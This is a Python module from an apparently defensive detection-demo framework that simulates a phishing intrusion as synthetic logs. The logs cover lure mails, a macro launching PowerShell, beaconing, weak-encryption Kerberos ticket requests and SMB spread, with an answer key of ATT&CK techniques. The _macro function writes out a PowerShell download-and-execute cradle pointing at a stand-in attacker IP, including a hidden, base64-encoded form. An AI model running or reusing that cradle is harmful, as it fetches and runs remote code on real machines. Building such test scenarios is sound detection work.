"""Story 3: a lure to four officers, one opens it; a beacon, weak tickets, file sharing with many machines."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from random import Random

from core.clock import MINUTE, SECOND, Micros
from kydai.demo.emission import Flow, Given
from kydai.demo.folk import port
from kydai.demo.lines_unix import mail
from kydai.demo.lines_windows import kerberos, process, windows
from kydai.demo.story import Story
from kydai.demo.truth import Expected, Truth
from kydai.demo.world import World

NAME = "mail"
SENDER, MASTER = "198.51.100.61", "203.0.113.62"
LURED = ("maipt", "lannt", "thaolp", "yendt")
OPENED, DESK = "maipt", "pc-0015"
BEACONS, RHYTHM, JITTER = 470, 61 * SECOND, 4 * SECOND
SERVICES = ("MSSQLSvc/vanban-app01", "HTTP/vanban-app01", "svc_saoluu", "svc_quetmang")
REACHED = 16
_LOGON = "0x6d20f1"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"


def play(world: World, random: Random, start: Micros) -> Iterator[Given]:
    """Four mails; twelve minutes later a macro runs; it calls out for eight hours and looks for more after two."""
    yield from _mails(world, start)
    yield from _macro(world, start + 12 * MINUTE)
    yield from _beacons(world, random, start + 13 * MINUTE)
    yield from _tickets(world, random, start + 125 * MINUTE)
    yield from _spreading(world, random, start + 140 * MINUTE)


def _mails(world: World, start: Micros) -> Iterator[Given]:
    host = world.host("mail01")
    for turn, account in enumerate(LURED):
        at, number = start + turn * 3 * SECOND, f"4F1C{turn:X}8A21"
        yield mail(host, at, "postfix/smtpd[5120]", f"{number}: client=mx.thongbao-bhxh.example[{SENDER}]", NAME)
        text = f"{number}: from=<vanphong@thongbao-bhxh.example>, size=184213, nrcpt=1 (queue active)"
        yield mail(host, at + SECOND, "postfix/qmgr[901]", text, NAME)
        text = (
            f"{number}: to=<{account}@bachvan.example>, relay=mail01[private/dovecot-lmtp], "
            "delay=0.9, dsn=2.0.0, status=sent (250 2.0.0 Saved)"
        )
        yield mail(host, at + 2 * SECOND, "postfix/lmtp[5122]", text, NAME)


def _macro(world: World, at: Micros) -> Iterator[Given]:
    order = f"IEX (New-Object Net.WebClient).DownloadString('http://{MASTER}/bhxh.ps1')"
    fetch = f'powershell.exe -nop -w hidden -c "{order}"'
    encoded = f"powershell.exe -nop -w hidden -enc {b64encode(order.encode('utf-16-le')).decode()}"
    for turn, (line, parent) in enumerate(((fetch, _WORD), (encoded, _POWERSHELL))):
        event = process(
            OPENED, world.windows_domain, _LOGON, _POWERSHELL, line, parent, 7_000 + turn, 6_900 + turn * 100
        )
        yield windows(world.host(DESK), at + turn * 5 * SECOND, event, 80_001 + turn, NAME)


def _beacons(world: World, random: Random, start: Micros) -> Iterator[Given]:
    at, source = start, world.host(DESK).address
    for _ in range(BEACONS):
        yield Flow(at, "fw-ttdl", source, MASTER, port(random), 443, 6, 2_140, 14, at - SECOND, 0x1B, NAME)
        at += RHYTHM + random.randrange(-JITTER, JITTER)


def _tickets(world: World, random: Random, start: Micros) -> Iterator[Given]:
    source = world.host(DESK).address
    for turn, service in enumerate(SERVICES):
        event = kerberos(4769, OPENED, source, port(random), service, encryption="0x17")
        yield windows(world.host("dc01"), start + turn * SECOND, event, 880_100 + turn, NAME)


def _spreading(world: World, random: Random, start: Micros) -> Iterator[Given]:
    source = world.host(DESK).address
    for turn, target in enumerate(world.named("pc-")[20 : 20 + REACHED]):
        at = start + turn * 20 * SECOND
        yield Flow(at, "sw-core01", source, target.address, port(random), 445, 6, 48_200, 90, at - SECOND, 0x1B, NAME)


STORY = Story(
    name=NAME,
    title={
        "vi": "Thư lừa đảo, tệp có macro và mã độc gọi về",
        "en": "A lure by mail, a macro, malware that calls home",
    },
    hours=("08:10", "09:30"),
    lasts=540 * MINUTE,
    play=play,
    truth=Truth(
        hosts=("mail01", DESK, "dc01"),
        outside=(SENDER, MASTER),
        accounts=(OPENED,),
        expects=(
            Expected(
                {"vi": "chương trình văn phòng mở trình lệnh", "en": "office program starts a shell"}, DESK, "T1204.002"
            ),
            Expected(
                {"vi": "xin vé Kerberos với mã hóa yếu", "en": "tickets with weak encryption"}, "dc01", "T1558.003"
            ),
            Expected(
                {"vi": "chia sẻ tệp tới nhiều máy", "en": "file sharing with many hosts"}, "sw-core01", "T1021.002"
            ),
            Expected({"vi": "kết nối ra ngoài theo nhịp", "en": "steady connections to outside"}, "fw-ttdl", "T1071"),
        ),
        summary={
            "vi": "Bốn công chức nhận thư giả bảo hiểm xã hội, một người mở tệp; máy gọi về mỗi 61 giây, xin vé "
            "mã hóa yếu và mở chia sẻ tệp tới 16 máy.",
            "en": "Four officers get a lure, one opens it; the machine calls out every 61 s, asks for weak tickets and "
            "opens file sharing with 16 others.",
        },
    ),
)
